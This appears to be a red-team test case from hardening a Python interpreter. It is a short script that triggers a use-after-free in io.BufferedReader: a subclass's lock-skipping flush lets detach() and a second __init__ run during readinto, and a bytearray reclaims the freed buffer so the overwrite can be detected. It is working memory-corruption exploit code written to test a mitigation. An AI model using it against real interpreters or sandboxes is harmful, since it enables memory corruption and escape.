# family: wall (memory: BufferedReader subclass whose flush() skips the lock, detached and re-initialised from its raw stream's readinto: the read writes a freed buffer)   goal: memory   interpreter: /usr/bin/python3
# Of our own, the fifteenth round's ok_04 on the buffered streams: the red team found
# that 3.11's "reentrant call" lock check stops a detach() inside a read, because
# detach() first calls self.flush(), which takes the lock. But detach() calls flush
# through the object, so a subclass's flush() that does not call the C one skips the
# lock: detach() then sets raw to NULL, the `raw` getter answers None, and r15's
# init_once let a second __init__ through, which frees the buffer the running read
# is filling (X128's write into another object, through detach). The wall: detach()
# is refused while another call of the stream runs (wall_guard_detach), and the second
# __init__ by the wall's record (init_once).
import io
SIZE = 200
keep = []
class BR(io.BufferedReader):
    def flush(self):          # detach's flush: not the C one, so no lock is taken
        return None
class Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, b):
        if not keep:
            try:
                br.detach()
                br.__init__(self, 4096)        # frees the buffer b points into
            except Exception as e:
                print("reinit:", type(e).__name__, e)
            keep.append(bytearray(b"A" * (SIZE - 1)))   # takes the freed block back
        b[:8] = b"BBBBBBBB"
        return 8
br = BR(Raw(), SIZE)
br.read(8)
victim = keep[0] if keep else bytearray()
if b"BBBBBBBB" in victim:
    print("MEMORY-OVERWRITTEN", bytes(victim[:16]))
else:
    print("victim unchanged", bytes(victim[:16]))
